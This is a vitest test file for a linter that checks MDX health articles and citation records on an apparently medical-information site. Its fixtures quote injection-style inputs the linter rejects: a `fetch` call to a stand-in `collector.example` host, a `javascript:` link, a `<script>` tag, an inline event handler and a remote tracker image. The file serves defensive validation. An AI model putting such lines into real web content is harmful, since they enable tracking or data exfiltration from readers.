import fs from 'node:fs'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { loadRegistry, parseRegistryFile } from '@/lib/citations/registry'
import { checkFile } from '@/lib/content/check'
import { loadSite } from '@/lib/content/site'
import { lines } from '../helpers/messages'

/**
 * The bad-input corpus: one broken file per rule, each with the exact message an editor sees
 * (file:line:column, severity, rule, message, hint). Changing a message means changing it here.
 */
const root = path.resolve('tests/fixtures/site')
const articles = path.join(root, 'content/articles')

const noCiteHint = (near: string) =>
  `a block may go uncited only for one of these reasons: question (a question for the reader to ask or think about), navigation (a pointer to another page or section of this site), about-site (a statement about this site, its sources or this page), checklist (a checklist line for the reader to tick or fill in); write it as {/* no-cite: question */}${near}. Advice and definitions are facts: cite them.`

const ARTICLE_CASES: [string, string[]][] = [
  [
    'code-expression.mdx',
    [
      'content/articles/code-expression.mdx:29:1  error  mdx/expression  Code in content: {fetch(\'https://collector.example/?page=…}.\n    hint: content is text: write \\{ for a brace, and use {/* … */} only for comments such as no-cite.',
    ],
  ],
  [
    'code-import.mdx',
    [
      'content/articles/code-import.mdx:29:1  error  mdx/expression  An import or export statement in content.\n    hint: components need no import; remove the line.',
    ],
  ],
  [
    'component-prop-typo.mdx',
    [
      'content/articles/component-prop-typo.mdx:29:11  error  mdx/props  <CareCard> prop "level": expected one of non-urgent, urgent, emergency; found "urgnt".\n    hint: did you mean "urgent"?',
    ],
  ],
  [
    'component-unknown.mdx',
    [
      'content/articles/component-unknown.mdx:29:1  error  mdx/unknown-component  Unknown component <Calout>.\n    hint: did you mean "Callout"? The components you can use: Callout, CareCard, Checklist, Fig, IconArray, KeyFactsDigest, NotesSpace, Options, OptionsTable, RepositoryLink, Timeline (docs/editing.md).',
    ],
  ],
  [
    'heading-reserved-id.mdx',
    [
      'content/articles/heading-reserved-id.mdx:29:1  error  headings/reserved-id  The heading id "references" is one the page itself uses.\n    hint: pin another id at the end of the heading, like [#about-the-references].',
    ],
  ],
  [
    'html-event-handler.mdx',
    [
      'content/articles/html-event-handler.mdx:29:8  error  mdx/attribute  The event handler "onClick" on <b>: content runs no script.\n    hint: remove it; behaviour belongs in the site, not in an article.',
    ],
  ],
  [
    'html-script.mdx',
    [
      'content/articles/html-script.mdx:29:1  error  mdx/html  The HTML element <script> is not allowed in content.\n    hint: pages run no script written in content (allowed: abbr, b, br, cite, em, i, kbd, mark, q, s, small, span, strong, sub, sup, time, u, wbr).',
      'content/articles/html-script.mdx:29:9  error  mdx/expression  Code in content: {"console.log(1)"}.\n    hint: content is text: write \\{ for a brace, and use {/* … */} only for comments such as no-cite.',
    ],
  ],
  [
    'link-http.mdx',
    [
      'content/articles/link-http.mdx:29:6  error  links/scheme  A link with the "http:" scheme: http://example.org/trial\n    hint: use the https:// address: https://example.org/trial',
    ],
  ],
  [
    'link-javascript.mdx',
    [
      'content/articles/link-javascript.mdx:29:6  error  links/scheme  A link with the "javascript:" scheme: javascript:alert(1)\n    hint: links may use https:, mailto: or tel:, or a site path like /articles/side-effects/.',
    ],
  ],
  [
    'media-remote.mdx',
    [
      'content/articles/media-remote.mdx:29:1  error  media/remote  A file loaded from outside this site: https://tracker.example/chart.png\n    hint: put the file in public/ and use its site path, like /images/diagram.png: pages load nothing from another host.',
    ],
  ],

  [
    'bad-date.mdx',
    [
      'content/articles/bad-date.mdx:6:15  error  frontmatter/schema  Field "lastReviewed": expected a date written YYYY-MM-DD (for example 2026-11-21), found "01/11/2026".',
    ],
  ],
  [
    'bad-section.mdx',
    [
      'content/articles/bad-section.mdx:4:10  error  frontmatter/schema  Field "section": expected one of basics, how-it-works, evidence, treatment, safety; found "safty".\n    hint: did you mean "safety"?',
    ],
  ],
  [
    'citation-in-heading.mdx',
    [
      'content/articles/citation-in-heading.mdx:25:1  error  headings/citation  A citation in a heading ("Where it is given [@spravatoPI2025]").\n    hint: cite in the paragraph below the heading instead.',
    ],
  ],
  [
    'duplicate-heading-id.mdx',
    [
      'content/articles/duplicate-heading-id.mdx:25:1  error  headings/duplicate-id  Two headings have the id "duration".\n    hint: the first is "How long it lasts" on line 21; pin a different id with [#another-id] at the end of one heading.',
    ],
  ],
  [
    'h1-in-body.mdx',
    [
      'content/articles/h1-in-body.mdx:15:1  error  headings/no-h1  A level-1 heading ("# How fast it works") in the body: expected ## or deeper, found #.\n    hint: the page already shows the title from the frontmatter as its only h1; start sections with ##.',
    ],
  ],
  [
    'image-alt.mdx',
    [
      'content/articles/image-alt.mdx:25:1  error  media/image-alt  An image with no alt text: /images/clinic.png\n    hint: write what the image shows in the brackets: ![A nurse checking blood pressure](/images/bp.jpg).',
    ],
  ],
  [
    'link-trailing-slash.mdx',
    [
      'content/articles/link-trailing-slash.mdx:23:58  error  links/trailing-slash  Link "/articles/valid-article" has no trailing slash.\n    hint: write /articles/valid-article/: pages live at addresses ending in /.',
    ],
  ],
  [
    'link-unknown-page.mdx',
    [
      'content/articles/link-unknown-page.mdx:23:58  error  links/unknown-page  Link to a page that does not exist: /articles/valid-articel/\n    hint: did you mean "/articles/valid-article/"?',
    ],
  ],
  [
    'link-unknown-section.mdx',
    [
      'content/articles/link-unknown-section.mdx:23:58  error  links/unknown-section  Link to a section that does not exist: /articles/valid-article/#how-slow-it-works\n    hint: did you mean "how-fast-it-works"? sections there: #how-fast-it-works, #duration, #where-it-is-given',
    ],
  ],
  [
    'long-description.mdx',
    [
      'content/articles/long-description.mdx:3:14  error  frontmatter/schema  Field "description": expected at most 160 characters, found 197.',
    ],
  ],
  [
    'malformed-citation.mdx',
    [
      'content/articles/malformed-citation.mdx:19:57  error  cite/malformed  Citation not understood: [@kryst2020, @berman2000]\n    hint: write [@key] for one source, or [@key1; @key2] for several; keys are the "id" fields in content/references/.',
    ],
  ],
  [
    'mdx-syntax.mdx',
    [
      'content/articles/mdx-syntax.mdx:19:83  error  mdx/syntax  MDX syntax error: Unexpected end of file in expression, expected a corresponding closing brace for `{`\n    hint: in MDX a { or < in prose starts code: write \\{ or &lt; for the character itself, and close every tag you open.',
    ],
  ],
  [
    'missing-title.mdx',
    [
      'content/articles/missing-title.mdx:1:1  error  frontmatter/schema  Missing required field "title" (expected text).',
    ],
  ],
  [
    'correction-without-why.mdx',
    ['content/articles/correction-without-why.mdx:10:5  error  frontmatter/schema  Field "history[0].why": expected a reason for the correction (what was wrong, and how it came to light), found nothing.'],
  ],
  [
    'digest-unknown-article.mdx',
    ['content/articles/digest-unknown-article.mdx:17:1  error  digest/unknown-article  <KeyFactsDigest> preselects "valid-artcle", which is not a published article.\n    hint: did you mean "valid-article"?'],
  ],
  [
    'options-table-no-options.mdx',
    ['content/articles/options-table-no-options.mdx:17:1  error  options/no-options  <OptionsTable> needs an <Options> block on the same page to draw its rows from.\n    hint: write the <Options> block first (docs/editing.md).'],
  ],
  [
    'options-table-unknown-row.mdx',
    ['content/articles/options-table-unknown-row.mdx:17:1  error  options/unknown-row  <OptionsTable> asks for "How oftn", which is not a question the options answer.\n    hint: did you mean "How often"?'],
  ],
  [
    'figure-unknown.mdx',
    ['content/articles/figure-unknown.mdx:19:21  error  figures/unknown-id  Unknown figure "monitoring-tme".\n    hint: did you mean "monitoring-time"?'],
  ],
  [
    'no-cite-reason.mdx',
    [`content/articles/no-cite-reason.mdx:23:1  error  cite/no-cite-reason  A no-cite marker without a reason.\n    hint: ${noCiteHint('')}`],
  ],
  [
    'no-cite-unknown-reason.mdx',
    [`content/articles/no-cite-unknown-reason.mdx:23:1  error  cite/no-cite-reason  A no-cite marker with the reason "personal advice", which is not one the site accepts.\n    hint: ${noCiteHint('')}`],
  ],
  [
    'no-cite-typo.mdx',
    [`content/articles/no-cite-typo.mdx:23:1  error  cite/no-cite-reason  A no-cite marker with the reason "questoin", which is not one the site accepts.\n    hint: ${noCiteHint(' (did you mean "question"?)')}`],
  ],
  [
    'care-card-uncited.mdx',
    [
      'content/articles/care-card-uncited.mdx:26:1  error  cite/care-card  A care card with no citation.\n    hint: advice on when to get help is clinical content: cite the label warning, the medication guide or national guidance (NHS, NICE) inside the card.',
      'content/articles/care-card-uncited.mdx:27:1  error  cite/uncited-claim  A list item with no citation: "you still feel detached or very sleepy when you get home"\n    hint: cite the source right after the claim ([@key]); if it states no fact, put {/* no-cite: reason */} on the line before it, with one of: question, navigation, about-site, checklist.',
    ],
  ],
  [
    'no-frontmatter.mdx',
    [
      'content/articles/no-frontmatter.mdx:1:1  error  frontmatter/missing  The file has no frontmatter: it must start with a --- line, the fields, and another --- line.\n    hint: run "npm run new -- <slug>" to start from a complete template.',
    ],
  ],
  [
    'reading-grade.mdx',
    [
      'content/articles/reading-grade.mdx:1:1  error  style/reading-grade  Reading grade 28.5 (Flesch-Kincaid; Coleman-Liau 30.9) is above 12: aim for grade 6 to 8.\n    hint: shorter sentences (now 19.8 words each on average) and everyday words lower the grade; explain a technical term once, then use it.',
    ],
  ],
  [
    'review-due-soon.mdx',
    [
      'content/articles/review-due-soon.mdx:7:16  warning  review/due-soon  Review due in 10 days (2026-12-10).\n    hint: plan the review now: after that date the build refuses to publish the page.',
    ],
  ],
  [
    'review-order.mdx',
    [
      'content/articles/review-order.mdx:7:16  error  frontmatter/schema  Field "nextReviewDue": expected a date after lastReviewed (2026-11-01), found "2026-10-01".',
    ],
  ],
  [
    'review-overdue.mdx',
    [
      'content/articles/review-overdue.mdx:7:16  error  review/overdue  Review overdue: nextReviewDue was 2026-11-01, 29 days ago.\n    hint: review the page against its sources, then set lastReviewed to today and a new nextReviewDue (and add a history entry).',
    ],
  ],
  [
    'reviewer-name.mdx',
    [
      'content/articles/reviewer-name.mdx:8:11  error  frontmatter/schema  Field "reviewer": expected a role or credential (for example "Consultant psychiatrist"), not a person\'s name, found "Dr. Jane Example".',
    ],
  ],
  [
    'skipped-level.mdx',
    [
      'content/articles/skipped-level.mdx:21:1  error  headings/skipped-level  Heading level skipped: expected ### or higher after ##, found #### ("How long it lasts").\n    hint: go down one level at a time so the outline makes sense to screen-reader users.',
    ],
  ],
  [
    'table-header.mdx',
    [
      'content/articles/table-header.mdx:25:1  error  media/table-header  A table whose header row has 1 empty cell.\n    hint: the first row names the columns: give every column a short heading.',
    ],
  ],
  [
    'too-few-key-facts.mdx',
    [
      'content/articles/too-few-key-facts.mdx:10:3  error  frontmatter/schema  Field "keyFacts": expected at least 3 items, found 1.',
    ],
  ],
  [
    'uncited-claim.mdx',
    [
      'content/articles/uncited-claim.mdx:23:1  error  cite/uncited-claim  A paragraph with no citation: "The effect of one dose usually fades after about a week."\n    hint: cite the source right after the claim ([@key]); if it states no fact, put {/* no-cite: reason */} on the line before it, with one of: question, navigation, about-site, checklist.',
    ],
  ],
  [
    'unknown-field.mdx',
    [
      'content/articles/unknown-field.mdx:6:1  error  frontmatter/schema  Unknown field "relatd" (not in the schema).\n    hint: did you mean "related"?',
    ],
  ],
  [
    'unknown-key.mdx',
    [
      'content/articles/unknown-key.mdx:17:85  error  cite/unknown-key  Unknown citation key "bermann2000": no entry with this id in content/references/.\n    hint: did you mean "berman2000"?',
    ],
  ],
  [
    'yaml-syntax.mdx',
    [
      'content/articles/yaml-syntax.mdx:5:8  error  frontmatter/yaml  Frontmatter is not valid YAML: Nested mappings are not allowed in compact mappings\n    hint: check indentation, and put quotes around text that contains a colon.',
    ],
  ],
]

describe('bad articles fail with the pinned, located message', () => {
  it.each(ARTICLE_CASES)('%s', (name, expected) => {
    expect(lines(checkFile(root, path.join(articles, name)))).toEqual(expected)
  })

  it('covers every fixture in the folder', () => {
    const files = fs.readdirSync(articles).filter((f) => !f.startsWith('valid-')).sort()
    expect(ARTICLE_CASES.map(([f]) => f).sort()).toEqual(files)
  })
})

describe('a valid article', () => {
  it('passes every rule with no findings at all', () => {
    const file = checkFile(root, path.join(articles, 'valid-article.mdx'))
    expect(lines(file)).toEqual([])
    expect(file.data.references?.map((r) => r.id)).toEqual(['kryst2020', 'spravatoPI2025', 'berman2000'])
    expect(file.data.toc?.map((t) => t.id)).toEqual(['how-fast-it-works', 'duration', 'where-it-is-given'])
  })
})

const registryDir = path.resolve('tests/fixtures/registry')
const REGISTRY_CASES: [string, string][] = [
  ['missing-journal.json', 'tests/fixtures/registry/single/missing-journal.json:3:11  error  registry/schema  Reference "berman2000": field "container-title": expected the journal name in "container-title", found nothing.'],
  ['missing-verified.json', 'tests/fixtures/registry/single/missing-verified.json:3:11  error  registry/schema  Reference "berman2000": Missing required field "verified" (expected a group of fields).'],
  ['bad-evidence.json', 'tests/fixtures/registry/single/bad-evidence.json:51:17  error  registry/schema  Reference "berman2000": field "evidence": expected one of systematic-review, meta-analysis, randomized-trial, observational, case-series, lab-or-animal, guideline-or-consensus, regulatory-label, review, other; found "rct".'],
  ['bad-id.json', 'tests/fixtures/registry/single/bad-id.json:3:11  error  registry/schema  Reference "bad id": field "id": expected letters, digits, hyphens or underscores, starting with a letter (like berman2000), found "bad id".'],
  ['bad-json.json', 'tests/fixtures/registry/single/bad-json.json:51:36  error  registry/json  Not valid JSON (PropertyNameExpected).\n    hint: paste CSL-JSON exactly as Zotero exports it: a [ ... ] list of { ... } entries.'],
]

const HOSTS_HINT = 'the list of hosts, each with its reason, is in lib/citations/hosts.ts.'
const LINK_HOST_HINT = `link the source itself: give its DOI or PMID (the link is then made for you), or the label on DailyMed or Drugs@FDA, the agency or the service's own page. A copy you read goes in verified.at with "copy": true; ${HOSTS_HINT}`
/** Entries that are valid CSL but send readers to the wrong place: still loaded, and still errors. */
const LINK_CASES: [string, string[]][] = [
  ['link-copy.json', [`tests/fixtures/registry/single/link-copy.json:8:12  error  registry/link-host  Reference "spravatoPI2019" links readers to www.120ty.net, which is not a source's own home.\n    hint: ${LINK_HOST_HINT}`]],
  ['link-identifier.json', ['tests/fixtures/registry/single/link-identifier.json:11:12  error  registry/link-identifier  Reference "kryst2020" has a DOI, so readers are sent to https://doi.org/10.1007/s43440-020-00097-z, but its URL points to link.springer.com.\n    hint: remove "URL": the link is made from the DOI. Record the page you read in verified.at.']],
  ['copy-unmarked.json', [`tests/fixtures/registry/single/copy-unmarked.json:15:18  error  registry/copy-unmarked  Reference "coyle2015" was checked on zendy.io, which is not a source's own home, but the page is not marked as a copy.\n    hint: add "copy": true to that item of verified.at, or check the source's own page instead; ${HOSTS_HINT}`]],
  ['no-identifier.json', [
    'tests/fixtures/registry/single/no-identifier.json:3:11  error  registry/no-identifier  Reference "wajs2020" is a journal article with neither a DOI nor a PMID.\n    hint: add the DOI and PMID as shown on PubMed, PubMed Central, the publisher or Crossref; if it has none, or you could not see them, say so in "note" (naming the DOI or PMID).',
  ]],
]

describe('bad registry entries fail with the pinned, located message', () => {
  it.each(REGISTRY_CASES)('%s', (name, expected) => {
    const file = `tests/fixtures/registry/single/${name}`
    const { file: checked, entries } = parseRegistryFile(fs.readFileSync(file, 'utf8'), file)
    expect(lines(checked)).toEqual([expected])
    expect(entries).toEqual([])
  })

  it.each(LINK_CASES)('%s', (name, expected) => {
    const file = `tests/fixtures/registry/single/${name}`
    const { file: checked, entries } = parseRegistryFile(fs.readFileSync(file, 'utf8'), file)
    expect(lines(checked)).toEqual(expected)
    expect(entries).toHaveLength(1)
  })

  it('a journal article may lack both identifiers when its note says why', () => {
    const file = 'tests/fixtures/registry/single/no-identifier.json'
    const entry = JSON.parse(fs.readFileSync(file, 'utf8'))[0]
    const explained = { ...entry, URL: 'https://pubmed.ncbi.nlm.nih.gov/', note: 'DOI and PMID not seen on any acceptable page.' }
    expect(parseRegistryFile(JSON.stringify([explained]), file).file.messages).toEqual([])
  })

  it('a duplicate id names both places', () => {
    const { files, entries } = loadRegistry(path.join(registryDir, 'duplicate-id'), path.resolve('.'))
    expect(files.flatMap(lines)).toEqual([
      'tests/fixtures/registry/duplicate-id/b.json:3:11  error  registry/duplicate-id  Duplicate reference id "berman2000".\n    hint: it is already defined at tests/fixtures/registry/duplicate-id/a.json:3:11; give one of them another id.',
    ])
    expect(entries.size).toBe(1)
  })
})

describe('content folders', () => {
  it('a duplicate slug is an error naming the other file', () => {
    expect(loadSite(path.resolve('tests/fixtures/duplicate-slug')).files.flatMap(lines)).toEqual([
      'content/articles/side-effects.md:1:1  error  content/extension  Content files must end in .mdx, found "side-effects.md".\n    hint: rename it to side-effects.mdx.',
      'content/articles/side-effects.mdx:1:1  error  content/duplicate-slug  Duplicate slug "side-effects": content/articles/side-effects.md already uses this address.\n    hint: each file name becomes an address, so two files cannot share one (letter case and .md/.mdx are ignored); rename one.',
    ])
  })
})
